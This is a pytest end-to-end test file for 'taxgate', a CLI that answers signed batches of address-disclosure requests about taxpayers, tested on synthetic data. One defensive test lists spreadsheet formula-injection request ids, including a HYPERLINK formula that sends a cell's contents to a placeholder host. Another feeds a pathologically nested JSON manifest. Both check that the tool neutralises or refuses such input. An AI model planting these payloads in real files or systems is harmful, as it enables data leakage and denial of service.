"""`taxgate run` end to end through the CLI, as a requesting agency and an analyst would."""

from __future__ import annotations

import csv
import errno
import json
import shutil
import subprocess
import sys
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from taxgate.app import pipeline
from taxgate.cli.main import run_cli
from taxgate.disclosure.response import RESPONSE_COLUMNS
from taxgate.errors import InputError, IntakeRefused, OutputsNotWritten
from taxgate.synth import score_files

from ..conftest import ReviewedWorld

TAXPAYERS = 3_000
REQUESTS = 600
SEED = 31
RECALL_FLOOR = 0.92


@dataclass(frozen=True)
class Run:
    root: Path
    ws: Path
    world: Path
    out: Path

    @property
    def response(self) -> list[dict[str, str]]:
        with (self.out / "response.csv").open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))

    @property
    def batch_id(self) -> str:
        manifest = json.loads((self.world / "manifest.json").read_text(encoding="utf-8"))
        return str(manifest["batch_id"])

    @property
    def run_args(self) -> tuple[str, ...]:
        return (str(self.ws), str(self.world / "manifest.json"), "--out", str(self.out))

    def decisions(self, into: Path) -> list[dict[str, object]]:
        """The internal decisions table, exported as the agency would (data contract §4)."""
        path = into / "decisions.parquet"
        assert cli("decisions", str(self.ws), self.batch_id, "--out", str(path)) == 0
        return list(pq.read_table(path).to_pylist())


def cli(*argv: str) -> int:
    return run_cli(list(argv))


def decisions_of(ws: Path, manifest: Path, into: Path) -> dict[str, dict[str, object]]:
    """The decisions of the batch ``manifest`` names, by request id."""
    batch_id = json.loads(manifest.read_text(encoding="utf-8"))["batch_id"]
    path = into / f"decisions-{batch_id}.parquet"
    assert cli("decisions", str(ws), batch_id, "--out", str(path)) == 0
    return {str(d["request_id"]): d for d in pq.read_table(path).to_pylist()}


def prepare(
    root: Path, *, style: str = "split", taxpayers: int = TAXPAYERS, requests: int = REQUESTS
) -> Run:
    """A workspace with a signer and a master file loaded, and a signed batch not yet run."""
    ws, keys, world, out = root / "ws", root / "keys", root / "world", root / "out"
    assert cli("init", str(ws)) == 0
    assert cli("keys", "new", str(keys), "--name", "ice-director") == 0
    assert (
        cli(
            *("agreement", "add-signer", str(ws), "--name", "ice-director", "--public-key"),
            *(str(keys / "ice-director.pub.pem"), "--valid-from", "2025-04-07"),
        )
        == 0
    )
    assert (
        cli(
            *("synth", str(world), "--taxpayers", str(taxpayers), "--requests", str(requests)),
            *("--seed", str(SEED), "--address-style", style),
            *("--sign-key", str(keys / "ice-director.key.pem"), "--signer", "ice-director"),
        )
        == 0
    )
    assert cli("master", "load", str(ws), str(world / "master"), "--workers", "1") == 0
    return Run(root, ws, world, out)


def build(root: Path, *, style: str = "split") -> Run:
    prepared = prepare(root, style=style)
    assert cli("run", *prepared.run_args) == 0
    return prepared


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return build(tmp_path_factory.mktemp("pipeline"))


def test_response_follows_the_contract(run: Run) -> None:
    text = (run.out / "response.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(RESPONSE_COLUMNS)
    rows = run.response
    with (run.world / "requests.csv").open(encoding="utf-8", newline="") as handle:
        request_ids = [r["request_id"] for r in csv.DictReader(handle)]
    assert [r["request_id"] for r in rows] == request_ids  # one row each, in request order
    for row in rows:
        assert row["outcome"] in {"DISCLOSED", "NOT_DISCLOSED", "REJECTED"}
        if row["outcome"] == "DISCLOSED":
            assert row["street"] and row["address_as_of"] and not row["reason_codes"]
            assert row["street"] == row["street"].upper()
            assert len(row["zip"]) in (5, 10)
        elif row["outcome"] == "REJECTED":
            assert row["reason_codes"] and not row["street"]
        else:  # uniform: nothing but the id and the outcome
            assert all(not row[c] for c in RESPONSE_COLUMNS[2:])


def test_no_harmful_disclosure_and_high_recall(run: Run) -> None:
    result = score_files(run.out / "response.csv", run.world / "truth.parquet")
    assert result["harmful_total"] == 0, result["harmful"]
    # A floor against regressions, not the goal (issue 14 asks 0.98): on this world of the
    # generator with its variation classes, requests that name a filer by a nickname or a
    # common first name with no date of birth are held for review or not disclosed, by
    # design (someone at the address who never filed could carry the name). Measured 0.927
    # (split) and 0.941 (one-line) when this floor was set.
    assert result["recall"] >= RECALL_FLOOR


def test_the_response_folder_holds_the_response_and_its_ledger_proofs(run: Run) -> None:
    # The requester gets this folder; every candidate's TIN stays in the workspace.
    assert sorted(p.name for p in run.out.iterdir()) == [
        "checkpoint.txt",
        "proofs.json",
        "response.csv",
    ]


def test_decisions_keep_the_evidence(run: Run, tmp_path: Path) -> None:
    decisions = run.decisions(tmp_path)
    assert len(decisions) == REQUESTS
    disclosed = [d for d in decisions if d["decision"] == "DISCLOSE"]
    assert disclosed
    for d in disclosed:
        assert str(d["model_version"]).startswith("fs-") and d["policy_version"]
        assert d["match_weight"] is not None and d["levels"] and d["lka_as_of"]
        assert json.loads(str(d["candidates"]))


def test_the_decisions_table_is_exported_for_the_agency_alone(run: Run, tmp_path: Path) -> None:
    # Data contract §4: taxgate decisions WS BATCH_ID --out FILE.parquet.
    out = tmp_path / "decisions.parquet"
    assert cli("decisions", str(run.ws), run.batch_id, "--out", str(out)) == 0
    exported = pq.read_table(out).to_pylist()
    assert [d["request_id"] for d in exported] == [r["request_id"] for r in run.response]
    assert out.stat().st_mode & 0o077 == 0  # every candidate's TIN: the owner reads it alone
    assert cli("decisions", str(run.ws), "no-such-batch", "--out", str(out)) != 0


def test_replayed_batch_is_refused(run: Run, tmp_path: Path) -> None:
    code = cli("run", str(run.ws), str(run.world / "manifest.json"), "--out", str(tmp_path))
    assert code != 0
    assert not (tmp_path / "response.csv").exists()


def test_ledger_verifies_and_accounts(run: Run) -> None:
    assert cli("ledger", "verify", str(run.ws)) == 0
    with duckdb.connect(str(run.ws / "store.duckdb"), read_only=True) as con:
        disclosures = con.execute(
            "SELECT count(*) FROM ledger_entries WHERE kind = 'DISCLOSURE'"
        ).fetchall()[0][0]
    assert disclosures == sum(r["outcome"] == "DISCLOSED" for r in run.response)


def test_explain_names_the_rule(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    request = next(r["request_id"] for r in run.response if r["outcome"] == "DISCLOSED")
    assert cli("explain", str(run.ws), request) == 0
    assert "MATCHED" in capsys.readouterr().out


def test_response_can_be_written_again(run: Run, tmp_path: Path) -> None:
    manifest = json.loads((run.world / "manifest.json").read_text(encoding="utf-8"))
    assert cli("response", str(run.ws), manifest["batch_id"], "--out", str(tmp_path)) == 0
    assert (tmp_path / "response.csv").read_bytes() == (run.out / "response.csv").read_bytes()


def test_same_inputs_give_byte_identical_outputs(run: Run, tmp_path: Path) -> None:
    """A second workspace, the same files and batch: the same bytes out."""
    twin = tmp_path / "twin"
    shutil.copytree(run.world, twin / "world")
    assert cli("init", str(twin / "ws")) == 0
    shutil.copy(run.ws / "agreement.toml", twin / "ws" / "agreement.toml")
    # A copied agreement is a change of the file: it is put on the record before use.
    assert cli("agreement", "adopt", str(twin / "ws")) == 0
    assert cli("master", "load", str(twin / "ws"), str(twin / "world" / "master")) == 0
    out = twin / "out"
    assert (
        cli("run", str(twin / "ws"), str(twin / "world" / "manifest.json"), "--out", str(out)) == 0
    )
    assert (out / "response.csv").read_bytes() == (run.out / "response.csv").read_bytes()
    exported = [twin / "decisions.parquet", tmp_path / "decisions.parquet"]
    for ws, path in zip((twin / "ws", run.ws), exported, strict=True):
        assert cli("decisions", str(ws), run.batch_id, "--out", str(path)) == 0
    assert exported[0].read_bytes() == exported[1].read_bytes()


def test_legal_hold_stops_every_disclosure(run: Run, tmp_path: Path) -> None:
    held = tmp_path / "held"
    shutil.copytree(run.root, held)
    requester = json.loads((held / "world" / "manifest.json").read_text())["requesting_agency"]
    assert cli("hold", str(held / "ws"), "--requester", requester, "--order", "No. 25-1") == 0
    keys = held / "keys" / "ice-director.key.pem"
    assert (
        cli(
            *("batch", "sign", str(held / "world" / "requests.csv"), "--key", str(keys)),
            *("--signer", "ice-director", "--out", str(held / "world" / "manifest.json")),
            *("--request-date", "2025-07-15"),
        )
        == 0
    )
    out = held / "out-held"
    assert (
        cli("run", str(held / "ws"), str(held / "world" / "manifest.json"), "--out", str(out)) == 0
    )
    with (out / "response.csv").open(encoding="utf-8", newline="") as handle:
        outcomes = {r["outcome"] for r in csv.DictReader(handle)}
    assert "DISCLOSED" not in outcomes


def test_one_line_address_style(tmp_path: Path) -> None:
    line = build(tmp_path, style="line")
    result = score_files(line.out / "response.csv", line.world / "truth.parquet")
    assert result["harmful_total"] == 0, result["harmful"]
    # A floor against regressions, not the goal (issue 14 asks 0.98): on this world of the
    # generator with its variation classes, requests that name a filer by a nickname or a
    # common first name with no date of birth are held for review or not disclosed, by
    # design (someone at the address who never filed could carry the name). Measured 0.927
    # (split) and 0.941 (one-line) when this floor was set.
    assert result["recall"] >= RECALL_FLOOR


# Nicknames the name tables know as the same given name (domain §4).
NICKNAMES = {
    "JOSE": "PEPE", "FRANCISCO": "PACO", "ROBERT": "BOB", "WILLIAM": "BILL", "JAMES": "JIM",
    "MICHAEL": "MIKE", "JOHN": "JOHNNY", "RICHARD": "DICK", "JOSEPH": "JOE", "THOMAS": "TOM",
    "CHARLES": "CHUCK", "DANIEL": "DANNY", "DAVID": "DAVE", "ANTHONY": "TONY", "EDWARD": "ED",
    "ELIZABETH": "LIZ", "MARGARET": "PEGGY", "PATRICIA": "PATTY", "JENNIFER": "JENNY",
    "GUADALUPE": "LUPE", "ALEJANDRO": "ALEX", "MANUEL": "MANOLO", "JESUS": "CHUY",
    "ENRIQUE": "KIKE", "EDUARDO": "LALO", "ROBERTO": "BETO", "ALBERTO": "BETO",
}  # fmt: skip


def test_a_later_request_for_an_answered_taxpayer_is_a_duplicate(run: Run, tmp_path: Path) -> None:
    """Domain §3, end to end: the same person asked again with a nickname is refused as
    DUPLICATE after matching; a son JR at his father's address, with his own date of birth,
    is a request of his own and never a duplicate."""
    copy = tmp_path / "dup"
    shutil.copytree(run.root, copy)
    requests = copy / "world" / "requests.csv"
    with requests.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        columns, rows = list(reader.fieldnames or []), list(reader)
    disclosed = {r["request_id"] for r in run.response if r["outcome"] == "DISCLOSED"}
    originals = [
        r
        for r in rows
        if r["request_id"] in disclosed
        and r["first_name"].upper() in NICKNAMES
        and not r["suffix"]
        and r["date_of_birth"]
    ][:5]
    assert originals, "the world has no disclosed request with a listed nickname"
    again = [
        {
            **r,
            "request_id": f"NICK-{r['request_id']}",
            "first_name": NICKNAMES[r["first_name"].upper()],
        }
        for r in originals
    ]
    # The son's own record: his suffix and date of birth, and not his father's TIN.
    son = {
        **originals[0],
        "request_id": "SON-JR",
        "suffix": "JR",
        "date_of_birth": "2004-02-29",
        "tin": "",
    }
    with requests.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows([*rows, son, *again])
    keys = copy / "keys" / "ice-director.key.pem"
    manifest = copy / "world" / "manifest.json"
    assert (
        cli(
            *("batch", "sign", str(requests), "--key", str(keys), "--signer", "ice-director"),
            *("--out", str(manifest), "--request-date", "2025-07-15"),
        )
        == 0
    )
    out = copy / "out-dup"
    assert cli("run", str(copy / "ws"), str(manifest), "--out", str(out)) == 0
    with (out / "response.csv").open(encoding="utf-8", newline="") as handle:
        response = {r["request_id"]: r for r in csv.DictReader(handle)}
    decisions = decisions_of(copy / "ws", manifest, copy)
    for original in originals:
        assert response[original["request_id"]]["outcome"] == "DISCLOSED"
    refused = [r["request_id"] for r in again if response[r["request_id"]]["outcome"] == "REJECTED"]
    assert refused, "no nickname repeat resolved to its taxpayer"
    for request_id in refused:
        assert response[request_id]["reason_codes"] == "DUPLICATE"
        assert all(not response[request_id][c] for c in RESPONSE_COLUMNS[3:])
        decision = decisions[request_id]
        assert (decision["decision"], decision["reason"]) == ("REJECTED", "SAME_TAXPAYER")
        assert decision["tin"] == decisions[request_id.removeprefix("NICK-")]["tin"]
    # Each taxpayer is disclosed once: a repeat never discloses.
    assert all(response[r["request_id"]]["outcome"] != "DISCLOSED" for r in again)
    # The son is not refused as his father's duplicate, and is not given his father's address.
    assert response["SON-JR"]["outcome"] == "NOT_DISCLOSED"


SMALL_REQUESTS = 30


@pytest.fixture(scope="module")
def _small_prepared(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return prepare(tmp_path_factory.mktemp("small"), taxpayers=300, requests=SMALL_REQUESTS)


@pytest.fixture
def small(_small_prepared: Run, tmp_path: Path) -> Run:
    """A prepared small world of this test's own (a copy: loading the master, with its model
    training, is done once per module)."""
    root = tmp_path / "small"
    shutil.copytree(_small_prepared.root, root)
    return Run(root, root / "ws", root / "world", root / "out")


@pytest.fixture
def small_under_umask_022(umask_022: None, tmp_path: Path) -> Run:
    """A small world prepared from scratch under umask 022 (every file made under it)."""
    return prepare(tmp_path, taxpayers=300, requests=SMALL_REQUESTS)


def one_line(text: str) -> str:
    return " ".join(text.split())


def test_a_fault_after_the_commit_is_reported_and_recoverable(
    small: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def full_disk(staged: Path, final: Path) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(final))

    monkeypatch.setattr(pipeline, "publish", full_disk)
    assert cli("run", *small.run_args) == OutputsNotWritten.exit_code
    err = one_line(capsys.readouterr().err)
    assert f"batch {small.batch_id} is committed" in err and "No space left on device" in err
    assert f"taxgate response {small.ws} {small.batch_id} --out {small.out}" in err
    assert "Traceback" not in err
    assert list(small.out.iterdir()) == []  # no response, and no staged file left behind
    monkeypatch.undo()
    # Committed: a second run is a replay; the response comes from the store, whole.
    assert cli("run", *small.run_args) == IntakeRefused.exit_code
    assert cli("response", str(small.ws), small.batch_id, "--out", str(small.out)) == 0
    assert [r["request_id"] for r in small.response] == [
        str(d["request_id"]) for d in small.decisions(small.root)
    ]
    assert len(small.response) == SMALL_REQUESTS
    assert cli("ledger", "verify", str(small.ws)) == 0


def test_ctrl_c_after_the_commit_says_the_batch_is_committed(
    small: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupt(staged: Path, final: Path) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "publish", interrupt)
    assert cli("run", *small.run_args) == OutputsNotWritten.exit_code
    err = one_line(capsys.readouterr().err)
    assert "is committed" in err and "(interrupted)" in err
    assert "nothing was committed" not in err and "rolled back" not in err
    monkeypatch.undo()
    assert cli("response", str(small.ws), small.batch_id, "--out", str(small.out)) == 0
    assert len(small.response) == SMALL_REQUESTS


def test_ctrl_c_before_the_commit_commits_nothing(
    small: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupt(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "last_known_addresses", interrupt)
    assert cli("run", *small.run_args) == 130
    assert "rolled back" in one_line(capsys.readouterr().err)
    assert cli("batch", "list", str(small.ws)) == 0
    assert "none answered yet" in capsys.readouterr().out
    monkeypatch.undo()
    assert cli("run", *small.run_args) == 0  # nothing was recorded: the batch simply runs
    assert len(small.response) == SMALL_REQUESTS


def test_nothing_in_the_workspace_or_the_response_folder_is_readable_by_others(
    small_under_umask_022: Run,
) -> None:
    small = small_under_umask_022
    small.out.mkdir()
    dead = 4_194_305  # above Linux's largest pid: no process can hold it
    leftovers = [
        small.out / f".response.csv.{dead}.0badf00d.partial",
        small.out / ".decisions.parquet.partial",  # the name taxgate once staged it under
    ]
    for path in leftovers:
        path.write_bytes(b"half a file")
    assert cli("run", *small.run_args) == 0
    names = sorted(p.name for p in small.out.iterdir())
    assert names == ["checkpoint.txt", "proofs.json", "response.csv"]
    for root in (small.ws, small.out):
        for path in [root, *root.rglob("*")]:
            mode = path.stat().st_mode
            assert mode & 0o077 == 0 or path == small.out, f"{path} is {oct(mode)}"


# Request ids a requester could send to make its own spreadsheet run a formula (OWASP).
INJECTIONS = ('=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)")


def test_requester_text_cannot_run_as_a_formula(small: Run, tmp_path: Path) -> None:
    requests = small.world / "requests.csv"
    with requests.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        names, rows = list(reader.fieldnames or []), list(reader)
    for row, evil in zip(rows, INJECTIONS, strict=False):
        row["request_id"] = evil
    with requests.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=names, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    manifest = small.world / "manifest.json"
    keys = small.root / "keys" / "ice-director.key.pem"
    assert (
        cli(
            *("batch", "sign", str(requests), "--key", str(keys), "--signer", "ice-director"),
            *("--out", str(manifest), "--request-date", "2025-07-15"),
        )
        == 0
    )
    screened = tmp_path / "screened"
    assert cli("screen", str(small.ws), str(manifest), "--out", str(screened)) == 0
    assert cli("run", *small.run_args) == 0
    for path in (small.out / "response.csv", screened / "findings.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            cells = list(csv.reader(handle))
        assert [row[0] for row in cells[1 : 1 + len(INJECTIONS)]] == [f"'{e}" for e in INJECTIONS]
        assert not [c for row in cells for c in row if c.startswith(("=", "+", "-", "@"))], path
    scored = score_files(small.out / "response.csv", small.world / "truth.parquet")
    assert scored["harmful_total"] == 0


AUDITOR = """
import pathlib, sys
from taxgate.cli.main import run_cli
ws, stop = sys.argv[1], pathlib.Path(sys.argv[2])
codes = []
print("auditing", flush=True)
while not codes or not stop.exists():
    for argv in (["ledger", "verify", ws], ["accounting", ws], ["batch", "list", ws]):
        codes.append(run_cli(argv))
print("codes", str(sorted(set(codes))).replace(" ", ""), len(codes), flush=True)
"""


def test_an_auditor_reading_the_workspace_never_makes_a_run_fail(small: Run) -> None:
    # A first batch, so that the auditor's commands have a ledger to read.
    assert cli("run", *small.run_args) == 0
    requests, keys = small.world / "requests.csv", small.root / "keys" / "ice-director.key.pem"
    second = small.world / "second.json"
    assert (
        cli(
            *("batch", "sign", str(requests), "--key", str(keys), "--signer", "ice-director"),
            *("--out", str(second), "--request-date", "2025-07-15"),
        )
        == 0
    )
    # The auditor reads in a loop from before the run starts until after it ends (a stop
    # file), however slow the machine: no timing in the test.
    stop = small.root / "auditor.stop"
    with subprocess.Popen(
        [sys.executable, "-c", AUDITOR, str(small.ws), str(stop)],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    ) as auditor:
        assert auditor.stdout is not None
        assert auditor.stdout.readline().strip() == "auditing"
        assert cli("run", str(small.ws), str(second), "--out", str(small.root / "out2")) == 0
        stop.touch()
        lines = auditor.stdout.read().splitlines()
        assert auditor.wait(timeout=600) == 0
    summary = next(line for line in lines if line.startswith("codes")).split()
    assert summary[1] == "[0]", summary  # every read of the auditor succeeded
    assert int(summary[2]) >= 3  # at least one round of the three reads
    assert cli("ledger", "verify", str(small.ws)) == 0


def test_a_deeply_nested_manifest_is_refused_and_recorded_without_a_traceback(
    small: Run, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = small.world / "deep.json"
    manifest.write_bytes(b"[" * 400_000)
    manifest.with_name("deep.json.sig").write_bytes(b"0")
    code = cli("run", str(small.ws), str(manifest), "--out", str(small.out))
    err = one_line(capsys.readouterr().err)
    assert code == IntakeRefused.exit_code, err
    assert "levels deep" in err and "Traceback" not in err
    assert cli("ledger", "verify", str(small.ws)) == 0  # the refusal is accounted for


def test_an_as_of_override_is_recorded_with_the_batch_its_ledger_entry_and_the_report(
    reviewed_world: ReviewedWorld, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 15, Deliver 3: an analyst's --as-of is kept where an auditor looks."""
    w = reviewed_world.copy(tmp_path / "as-of")
    manifest = w.world / "manifest.json"  # signed again: a new batch id
    assert (
        cli(
            *("batch", "sign", str(w.world / "requests.csv"), "--key"),
            *(str(w.keys / "ice-director.key.pem"), "--signer", "ice-director"),
            *("--out", str(manifest), "--request-date", "2025-07-15"),
        )
        == 0
    )
    batch_id = json.loads(manifest.read_text(encoding="utf-8"))["batch_id"]
    out = w.root / "out-as-of"
    assert cli("run", str(w.ws), str(manifest), "--out", str(out), "--as-of", "2025-07-01") == 0
    with duckdb.connect(str(w.ws / "store.duckdb"), read_only=True) as con:
        batches = dict(con.execute("SELECT batch_id, as_of_override FROM batches").fetchall())
        received = {
            b: json.loads(a)
            for b, a in con.execute(
                "SELECT batch_id, attrs FROM ledger_entries WHERE kind = 'BATCH_RECEIVED'"
            ).fetchall()
        }
    assert batches == {batch_id: True, w.batch_id: False}
    assert received[batch_id]["as_of"] == "2025-07-01" and received[batch_id]["as_of_override"]
    assert received[batch_id]["request_date"] == "2025-07-15"
    assert received[w.batch_id]["as_of"] == "2025-07-15"
    assert received[w.batch_id]["as_of_override"] is False
    assert cli("ledger", "verify", str(w.ws)) == 0
    report = w.root / "report.html"
    assert cli("report", str(w.ws), batch_id, "--out", str(report)) == 0
    html = report.read_text(encoding="utf-8")
    assert "measured as of 2025-07-01 by an analyst's --as-of override" in html
    assert "in place of the request date 2025-07-15" in html
    capsys.readouterr()
    with (out / "response.csv").open(encoding="utf-8", newline="") as handle:
        request = next(csv.DictReader(handle))["request_id"]
    assert cli("explain", str(w.ws), request, "--batch", batch_id) == 0
    assert "as of 2025-07-01 (an analyst's --as-of override)" in capsys.readouterr().out


@pytest.mark.parametrize("requests", [1, 5, 40])
def test_a_fresh_workspace_answers_a_first_batch_of_a_few_requests(
    tmp_path: Path, requests: int
) -> None:
    # Issue 14: the model comes from the master snapshot, so a first batch of one request
    # (or five, or forty) runs, is answered whole, and never trains on itself.
    prepared = prepare(tmp_path, taxpayers=300, requests=requests)
    assert cli("run", *prepared.run_args) == 0
    assert len(prepared.response) == requests
    assert {r["outcome"] for r in prepared.response} <= {"DISCLOSED", "NOT_DISCLOSED", "REJECTED"}


def test_an_as_of_long_before_the_request_date_is_refused_and_uses_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Issue 15: --as-of may not lie before the manifest's request date by more than the
    # agreement's bound; the refusal commits nothing, so the batch then runs.
    prepared = prepare(tmp_path, taxpayers=300, requests=20)
    manifest = json.loads((prepared.world / "manifest.json").read_text(encoding="utf-8"))
    early = (date.fromisoformat(manifest["request_date"]) - timedelta(days=60)).isoformat()
    capsys.readouterr()
    assert cli("run", *prepared.run_args, "--as-of", early) == InputError.exit_code
    err = capsys.readouterr().err
    assert "days before the batch's request date" in err and "Traceback" not in err
    assert not (prepared.out / "response.csv").exists()
    assert cli("run", *prepared.run_args) == 0
